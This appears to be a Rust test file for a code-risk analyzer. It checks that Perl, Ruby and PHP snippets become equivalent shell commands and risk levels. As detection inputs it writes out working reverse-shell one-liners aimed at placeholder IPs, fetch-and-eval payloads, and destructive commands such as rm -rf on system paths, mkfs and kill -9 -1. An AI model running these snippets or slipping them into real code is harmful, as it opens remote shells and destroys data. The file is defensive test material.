//! Perl, Ruby and PHP: variables assigned once carry their literal into deletions and
//! commands, temporary directories the code made are not deletions of other paths, code read
//! from the network and evaluated is "receive and run", and what is written into a shell opened
//! for writing is run.

use riskgate_analyzers::code::{Analysis, CodeAction, RiskAssessor};
use riskgate_model::{Language, RiskLevel};

fn commands(code: &str, lang: Language) -> Vec<String> {
    Analysis::new(code, lang)
        .commands
        .into_iter()
        .map(|c| c.text)
        .collect()
}

fn level(code: &str, lang: Language) -> RiskLevel {
    RiskAssessor::new()
        .assess(&CodeAction::new(code, Some(lang)))
        .level
}

#[test]
fn literal_paths_through_variables() {
    let cases = [
        (
            "use File::Path qw(rmtree); my $d = \"/home/deploy\"; rmtree($d);",
            Language::Perl,
            "rm -rf -- /home/deploy",
        ),
        (
            "my $f = '/etc/hosts'; unlink $f;",
            Language::Perl,
            "rm -f -- /etc/hosts",
        ),
        (
            "require 'fileutils'; d = \"/srv/data\"; FileUtils.rm_rf(d)",
            Language::Ruby,
            "rm -rf -- /srv/data",
        ),
        (
            "$p = '/var/www/html'; system('rm -rf ' . $p);",
            Language::Php,
            "rm -rf /var/www/html",
        ),
        (
            "my $c = \"shutdown -h now\"; system($c);",
            Language::Perl,
            "shutdown -h now",
        ),
    ];
    for (code, lang, want) in cases {
        let got = commands(code, lang);
        assert!(got.iter().any(|c| c == want), "{code}: {got:?}");
    }
}

#[test]
fn temporary_directories_are_not_other_paths() {
    for (code, lang) in [
        (
            "use File::Temp qw(tempdir); use File::Path qw(rmtree); my $d = tempdir(); rmtree($d);",
            Language::Perl,
        ),
        ("my $t = File::Temp->newdir(); rmtree($t);", Language::Perl),
        (
            "require 'tmpdir'; d = Dir.mktmpdir; FileUtils.rm_rf(d)",
            Language::Ruby,
        ),
        (
            "tmp = Dir.mktmpdir('build'); FileUtils.remove_entry(tmp)",
            Language::Ruby,
        ),
        ("$f = tempnam('/tmp', 'x'); unlink($f);", Language::Php),
    ] {
        assert!(
            level(code, lang) <= RiskLevel::Medium,
            "{code}: {:?}",
            commands(code, lang)
        );
    }
}

#[test]
fn network_code_evaluated_is_receive_and_run() {
    for (code, lang) in [
        (
            "use LWP::Simple; my $c = get(\"http://198.51.100.4/a.pl\"); eval $c;",
            Language::Perl,
        ),
        (
            "use LWP::Simple; eval(get('https://x.example/p.pl'));",
            Language::Perl,
        ),
        (
            "require 'net/http'; s = Net::HTTP.get(URI('https://x.example/r.rb')); eval(s)",
            Language::Ruby,
        ),
        (
            "require 'open-uri'; eval(URI.open('https://x.example/r.rb').read)",
            Language::Ruby,
        ),
        (
            "$code = file_get_contents('https://x.example/p.txt'); eval($code);",
            Language::Php,
        ),
    ] {
        let got = commands(code, lang);
        assert!(
            got.iter()
                .any(|c| c.starts_with("curl -s ") && c.ends_with("| sh")),
            "{code}: {got:?}"
        );
        assert!(level(code, lang) >= RiskLevel::High, "{code}");
    }
    // a download that is only printed is not run
    let got = commands(
        "use LWP::Simple; my $c = get('https://x.example/a'); print $c;",
        Language::Perl,
    );
    assert!(got.iter().all(|c| !c.ends_with("| sh")), "{got:?}");
}

#[test]
fn sockets_bound_to_the_standard_streams_are_reverse_shells() {
    for (code, lang) in [
        (
            "use IO::Socket::INET; $s=IO::Socket::INET->new(\"203.0.113.9:9001\");STDIN->fdopen($s,r);$~->fdopen($s,w);system$_ while<>;",
            Language::Perl,
        ),
        (
            "use Socket; socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp')); connect(S,sockaddr_in(4444,inet_aton('198.51.100.3'))); open(STDIN,'>&S'); open(STDOUT,'>&S'); exec('/bin/sh -i');",
            Language::Perl,
        ),
        (
            "$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"198.51.100.2:8080\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;",
            Language::Perl,
        ),
        (
            "$sock=fsockopen('203.0.113.4',4444);exec('/bin/sh -i <&3 >&3 2>&3');",
            Language::Php,
        ),
        (
            "require 'socket'; s = TCPSocket.new('198.51.100.8', 7000); $stdin.reopen(s); $stdout.reopen(s); exec('/bin/sh -i')",
            Language::Ruby,
        ),
        (
            "use IO::Socket; $c = IO::Socket::INET->new('203.0.113.1:443'); open(STDIN, '<&', $c); open(STDOUT, '>&', $c); system('/bin/bash -i');",
            Language::Perl,
        ),
    ] {
        let got = commands(code, lang);
        assert!(
            got.iter().any(|c| c.contains("/dev/tcp/")),
            "{code}: {got:?}"
        );
    }
    // a client that only talks is not
    let got = commands(
        "use IO::Socket::INET; my $c = IO::Socket::INET->new('localhost:80'); print $c \"GET /\\r\\n\"; print <$c>;",
        Language::Perl,
    );
    assert!(got.iter().all(|c| !c.contains("/dev/tcp/")), "{got:?}");
}

#[test]
fn writes_into_a_shell_run() {
    let cases = [
        (
            "open(my $fh, \"|sh\") or die; print $fh \"rm -rf /opt\\n\"; close $fh;",
            Language::Perl,
            "rm -rf /opt",
        ),
        (
            "open(SH, '| bash'); print SH 'kill -9 -1';",
            Language::Perl,
            "kill -9 -1",
        ),
        (
            "open(my $p, '|-', 'sh'); print {$p} \"shutdown -r now\";",
            Language::Perl,
            "shutdown -r now",
        ),
        (
            "IO.popen(\"sh\", \"w\") { |io| io.puts \"rm -rf /srv\" }",
            Language::Ruby,
            "rm -rf /srv",
        ),
        (
            "sh = IO.popen('bash', 'w'); sh.write(\"mkfs.ext4 /dev/sdb\"); sh.close",
            Language::Ruby,
            "mkfs.ext4 /dev/sdb",
        ),
        (
            "$h = popen('sh', 'w'); fwrite($h, \"shutdown -h now\\n\"); pclose($h);",
            Language::Php,
            "shutdown -h now",
        ),
    ];
    for (code, lang, want) in cases {
        let got = commands(code, lang);
        assert!(got.iter().any(|c| c == want), "{code}: {got:?}");
    }
    // writing into a program that is not a shell runs nothing
    let got = commands(
        "open(my $fh, '| sort') or die; print $fh \"rm -rf /\\n\";",
        Language::Perl,
    );
    assert!(got.iter().all(|c| c != "rm -rf /"), "{got:?}");
}
